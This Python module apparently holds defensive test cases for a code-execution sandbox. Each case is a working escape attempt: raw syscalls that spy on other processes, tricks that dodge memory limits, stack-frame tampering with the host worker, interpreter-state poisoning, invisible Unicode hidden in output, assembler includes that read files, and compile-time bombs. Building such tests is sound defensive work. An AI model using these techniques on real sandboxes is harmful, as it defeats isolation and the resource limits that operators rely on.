"""Attacks of strangers: written from how other sandboxes were broken, without a look at how this one is built.

Clocks, locks and processors of others by calls that most filters let pass; memory that a limit stops counting once it is
made read-only; an answer that names one large place many times; what hangs on letters; what lies beside a file's content.
"""

from __future__ import annotations

import itertools
from typing import Any

from .builds import c, rust
from .case import attack, leaked, victim_gone
from .evaluators import evaluator
from .memory import EXCESS, MIB, held, never
from .results import FORGE
from .state import leave
from .timing import endless

# Processes: whether somebody is there, and how much he computes -----------------------------------------------------
attack(
    "proc_processors_of_others",
    "processes",
    """
def attack(w):
    mask = ctypes.create_string_buffer(128)
    return call({"x86_64": 204, "aarch64": 123}[os.uname().machine], w["victim"], 128, mask) > 0
""",
    lambda world, outcome: outcome.value is True,
    needs=("victim",),
)
attack(
    "proc_time_of_others",
    "processes",
    """
def attack(w):
    at = ctypes.create_string_buffer(16)
    number = {"x86_64": 228, "aarch64": 113}[os.uname().machine]
    call(number, (~w["victim"] << 3) | 2, at)
    return struct.unpack("qq", at.raw)[1]
""",
    lambda world, outcome: isinstance(outcome.value, int),
    needs=("victim",),
)
attack(
    "proc_clock_of_others",
    "processes",
    """
def attack(w):
    at = ctypes.create_string_buffer(16)
    number = {"x86_64": 229, "aarch64": 114}[os.uname().machine]
    call(number, (~w["victim"] << 3) | 2, at)
    try: call(number, (~4194000 << 3) | 2, at)
    except OSError as error: return error.errno
""",
    lambda world, outcome: outcome.value == 22,
    needs=("victim",),
)
attack(
    "proc_lock_held_by_others",
    "processes",
    """
def attack(w):
    number = {"x86_64": 202, "aarch64": 98}[os.uname().machine]
    def wait(owner):
        word = ctypes.c_uint32(owner)
        try: call(number, ctypes.addressof(word), 6, 0, struct.pack("qq", 1, 0), 0, 0)
        except OSError as error: return error.errno
    return [wait(w["victim"]), wait(4194000)]
""",
    lambda world, outcome: outcome.value == [110, 3],  # it waits for the one, and the other is not there
    needs=("victim",),
)

# Memory -------------------------------------------------------------------------------------------------------------
attack(
    "res_memory_made_read_only",
    "memory",
    f"""
def attack(w):
    libc.mmap.restype = ctypes.c_void_p
    frame = sys._getframe()
    while frame and not hasattr(frame.f_locals.get("self"), "arena"): frame = frame.f_back
    if frame is not None:
        libc.munmap(ctypes.c_void_p(frame.f_locals["self"].arena), ctypes.c_size_t(1 << 31))
    for _ in range({EXCESS} >> 23):
        at = libc.mmap(None, ctypes.c_size_t(1 << 23), 3, 0x22, -1, ctypes.c_long(0))
        if at == ctypes.c_void_p(-1).value: raise MemoryError
        ctypes.memset(at, 1, 1 << 23)
        libc.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(1 << 23), 1)
    time.sleep(0.3)
""",
    never,
    watch=held,
)
attack(
    "res_memory_grown_in_place",
    "memory",
    f"""
def attack(w):
    libc.mmap.restype = libc.mremap.restype = ctypes.c_void_p
    frame = sys._getframe()
    while frame and not hasattr(frame.f_locals.get("self"), "arena"): frame = frame.f_back
    if frame is not None:
        libc.munmap(ctypes.c_void_p(frame.f_locals["self"].arena), ctypes.c_size_t(1 << 31))
    size, at = 1 << 20, libc.mmap(None, ctypes.c_size_t(1 << 20), 3, 0x22, -1, ctypes.c_long(0))
    while size < {EXCESS}:
        libc.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(size), 1)
        at = libc.mremap(ctypes.c_void_p(at), ctypes.c_size_t(size), ctypes.c_size_t(2 * size), 1)
        if at == ctypes.c_void_p(-1).value: raise MemoryError
        if libc.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(2 * size), 3): raise MemoryError
        ctypes.memset(at + size, 1, size)
        size *= 2
    time.sleep(0.3)
""",
    never,
    watch=held,
)

# Files --------------------------------------------------------------------------------------------------------------
attack("fs_read_a_link", "files", "def attack(w): return os.readlink(w['link'])", leaked, needs=("link",))
evaluator(
    "attributes_of_a_file",
    "files",
    "    return [os.getxattr(w['labelled'], 'user.origin'), os.listxattr(w['labelled'])]",
    leaked,
    needs=("labelled",),
)

# Network, signals, time ---------------------------------------------------------------------------------------------
attack("net_tcp_as_the_other_family", "network",
       "def attack(w): socket.socket(socket.AF_INET6).connect(('::ffff:127.0.0.1', w['tcp']))",
       lambda world, outcome: world.heard(), needs=("tcp",))  # fmt: skip
attack(
    "sig_by_a_lease",
    "signals",
    """
import fcntl
def attack(w):
    fd = os.open("deep-lease", os.O_CREAT | os.O_RDWR)
    fcntl.fcntl(fd, 10, 9)
    fcntl.fcntl(fd, fcntl.F_SETOWN, w["victim"])
    fcntl.fcntl(fd, 1024, 1)
    os.open("deep-lease", os.O_RDONLY | os.O_NONBLOCK)
""",
    victim_gone,
    needs=("victim",),
)
endless("time_answer_by_drops", """
    libc.prctl(1, 0)
    for n in (15,): signal.signal(n, signal.SIG_IGN)
    while True:
        for fd in (1, 4):
            try: os.write(fd, b" ")
            except OSError: pass
        time.sleep(0.02)
""")  # fmt: skip
endless("time_text_of_an_error", """
    signal.signal(15, signal.SIG_IGN)
    class Slow(Exception):
        def __str__(self):
            while True: time.sleep(1)
    try: raise Slow
    except Slow as error: str(error)
""")  # fmt: skip


# Results ------------------------------------------------------------------------------------------------------------
def swollen(world: Any, outcome: Any) -> bool:
    """Whoever read the answer holds far more than a candidate may have."""
    return peak() > world.peak_before + 400 * MIB or outcome.failed != ""


def peak() -> int:
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) << 10 for line in f if line.startswith("VmHWM"))


def forget_the_peak() -> int:
    with open("/proc/self/clear_refs", "w") as f:
        f.write("5")
    return peak()


attack(
    "result_one_memory_many_times",
    "results",
    FORGE
    + """
def attack(w):
    found = question()
    if found is None:
        class Swollen:
            def __reduce__(self): return __import__("numpy").ones, (560 << 17,)
        return Swollen()
    worker = sys._getframe()
    while not hasattr(worker.f_locals.get("self"), "pending"): worker = worker.f_back
    import numpy as np
    owner = worker.f_locals["self"]
    def copied(arrays, reply, tail):
        reply["value"] = [{"$array": ["|u1", [40 << 20], tail]}] * 14
        return reply
    owner._copy = copied
    return np.zeros(40 << 20, "u1")
""",
    swollen,
    needs=("peak_before",),
    wall_seconds=4,
    cpu_seconds=4,
)

# State --------------------------------------------------------------------------------------------------------------
leave("state_small_number",
      "def attack(w):\n    ctypes.memmove(id(201) + 24, (-202).to_bytes(4, 'little', signed=True)[:0] or (202).to_bytes(4, 'little'), 4)\n    return 1",
      "def attack(w):\n    found = [201][0] + 0\n    return 'left' if str(found) == '202' else None")  # fmt: skip
leave("state_rounding", "def attack(w):\n    ctypes.CDLL('libm.so.6').fesetround(0x400)\n    return 1",
      "def attack(w):\n    one = [1.0]\n    return 'left' if one[0] + 2.0 ** -60 - one[0] or -one[0] - 2.0**-60 != -one[0] else None")  # fmt: skip
leave("state_processors", "def attack(w):\n    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})\n    return 1",
      "def attack(w): return 'left' if len(os.sched_getaffinity(0)) == 1 else None")  # fmt: skip
leave("state_codec", "import codecs\ndef attack(w):\n    codecs.register_error('o-left', lambda e: ('left', e.end))\n    return 1",
      "def attack(w): return b'\\xff'.decode('ascii', 'o-left')")  # fmt: skip

# Output -------------------------------------------------------------------------------------------------------------
HIDDEN = "ok" + "".join(chr(0x61 + k % 26) + chr(0xFE00 + k % 16) for k in range(40))


def selected(world: Any, outcome: Any) -> bool:
    """Four bits hang on every letter, and nobody sees them."""
    text = outcome.told + outcome.error
    return sum(a.isascii() and "\ufe00" <= b <= "\ufe0f" for a, b in itertools.pairwise(text)) > 10


attack("out_bits_on_letters", "output", f"def attack(w): os.write(1, {HIDDEN!r}.encode())", selected)
attack("out_marks_over_other_lines", "output", "def attack(w): os.write(1, ('a' + chr(0x300) * 500).encode())",
       lambda world, outcome: "\u0300" * 100 in outcome.told)  # fmt: skip

# Builds -------------------------------------------------------------------------------------------------------------
c("build_c_assembler_reads", leaked, lambda w: f'__asm__(".include \\"{w.canary}\\"");\nint f;\n')
c("build_c_bomb_of_macros", lambda world, outcome: outcome.ended == "never" or outcome.seconds > 8,
  lambda w: "#define a0 x,\n" + "".join(f"#define a{k + 1} a{k} a{k}\n" for k in range(31)) + "int f[] = { a31 };\n",
  wall_seconds=1.5)  # fmt: skip
rust("build_rust_assembler_reads", leaked, lambda w: f'core::arch::global_asm!(".include \\"{w.canary}\\"");\n')
rust("build_rust_bomb_of_types", lambda world, outcome: outcome.ended == "never" or outcome.seconds > 8,
     lambda w: "macro_rules! m { ($($x:tt)*) => { m!($($x)* $($x)*); } }\n#![recursion_limit = \"4096\"]\nm!(a b c d);\n".replace('#![recursion_limit = "4096"]\n', ""),
     wall_seconds=1.5)  # fmt: skip
